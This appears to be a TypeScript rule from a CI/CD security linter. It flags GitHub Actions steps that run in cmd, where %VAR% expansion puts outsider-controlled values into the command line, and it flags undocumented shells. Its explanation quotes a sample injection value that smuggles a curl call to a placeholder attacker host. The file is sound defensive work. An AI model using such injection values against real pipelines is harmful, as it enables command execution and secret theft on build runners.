import type { Script, Step, Variable } from '#pipeline/model.ts';
import type { Rule, RuleContext } from '../../rule.ts';
import { namedShellOf } from '../../shared/effective-shell.ts';
import { isOpen } from '../../shared/outsider-taint.ts';

const COMMAND_PROMPT = /^(?:\S{0,200}[\\/])?cmd(?:\.exe)?(?=\s|$)/i;
/** Those that the platform documents, whatever their options are. */
const KNOWN = /^(?:\S{0,200}[\\/])?(?:bash|sh|pwsh|powershell|python|cmd)(?:\.exe)?(?=\s|$)/i;

const PERCENT_NAME = /%([A-Za-z_][A-Za-z0-9_]{0,99})%/g;
const READS_MAX = 100;

/** Variables that the command prompt puts into the line before it reads it, each with its place. */
function readsOf({ text }: Script): { name: string; start: number; end: number }[] {
  return [...text.value.matchAll(PERCENT_NAME)]
    .slice(0, READS_MAX)
    .map(({ 0: whole, 1: name = '', index }) => ({ name, start: index, end: index + whole.length }));
}

function findVariable(step: Step, name: string): Variable | undefined {
  return [step.env, step.job.env, step.job.pipeline.env]
    .map((variables) => variables.findLast((each) => each.name.toLowerCase() === name.toLowerCase()))
    .find((found) => found !== undefined);
}

/** `%TITLE%` is text in the command line: quotes and `&` in it count. */
function reportReads(step: Step, script: Script, context: RuleContext): boolean {
  let reported = false;
  for (const { name, start, end } of readsOf(script)) {
    const expressions = findVariable(step, name)?.value?.expressions ?? [];
    const taint = expressions
      .flatMap((expression) => context.taintsOf(expression, { step }))
      .find((each) => isOpen(each, step, context));
    if (taint === undefined) continue;
    reported = true;
    context.report({
      at: script.text.span(start, end),
      message: `an outsider writes %${name}%, and cmd puts it into the command line as it is`,
      severity: taint.authority === 'full' ? 'high' : 'medium',
      confidence: 'medium',
      persona: 'regular',
      path: [
        ...taint.hops,
        { label: 'put into this line', source: script.text.source, span: script.text.span(start, end) },
      ],
      remedy: `Use \`shell: pwsh\` and read the variable there: \`$env:${name}\` is never read as code.`,
    });
  }
  return reported;
}

export const rule: Rule = {
  id: 'unsafe-shell',
  title: 'A shell that reads variables as code, or that few people know',
  severity: 'low',
  confidence: 'high',
  persona: 'pedantic',
  platforms: ['github'],
  needs: ['shell'],
  standards: { cicdSec: ['CICD-SEC-4'], cwe: ['CWE-78', 'CWE-88'], cis: ['2.3.1'] },
  description:
    'Looks for scripts that run in `cmd`, named at the step or as a default. Everybody sees those that read a variable which an outsider writes. Auditors also see shells that the platform does not document.',
  why: 'Handing a value over in a variable keeps it from being code in other shells. `cmd` puts `%NAME%` into the line before it reads it: a title such as `" & curl evil.example & "` is then a command, and no quoting helps.',
  remedy: 'Use `shell: pwsh`, or `bash`, which every hosted runner has.',
  references: [
    'https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#jobsjob_idstepsshell',
    'https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/cmd',
  ],
  aliases: ['zizmor/misfeature'],

  step(step, context) {
    const shell = namedShellOf(step);
    if (shell === undefined || step.work.kind !== 'script') return;
    const written = shell.value.trim();
    if (COMMAND_PROMPT.test(written)) {
      if (reportReads(step, step.work, context)) return;
      context.report({
        at: step.work.text.node,
        message: 'this script runs in cmd, where variables become part of the command line',
        related: [{ at: shell, label: 'the shell' }],
      });
    } else if (!KNOWN.test(written) && !written.includes('${{')) {
      context.report({
        at: shell,
        message: `${written.slice(0, 80)} is no shell that the platform documents, and few tools can read scripts for it`,
        severity: 'info',
        persona: 'auditor',
      });
    }
  },
};
